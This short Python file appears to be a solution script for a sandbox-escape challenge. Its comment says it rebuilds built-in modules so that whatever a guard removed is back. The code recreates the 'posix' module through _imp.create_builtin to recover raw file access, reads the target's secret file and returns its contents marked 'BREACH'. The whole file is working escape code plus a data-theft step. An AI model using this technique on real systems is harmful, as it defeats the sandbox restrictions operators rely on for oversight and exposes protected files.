# Makes the built-in modules anew, so that whatever a guard removed from them is back.
import _imp
import importlib.machinery
import sys


def fresh(name):
    sys.modules.pop(name, None)
    return _imp.create_builtin(importlib.machinery.ModuleSpec(name, None))


def solve(target):
    posix = fresh("posix")
    descriptor = posix.open(target["secret_file"], 0)
    return "BREACH: " + posix.read(descriptor, 200).decode()
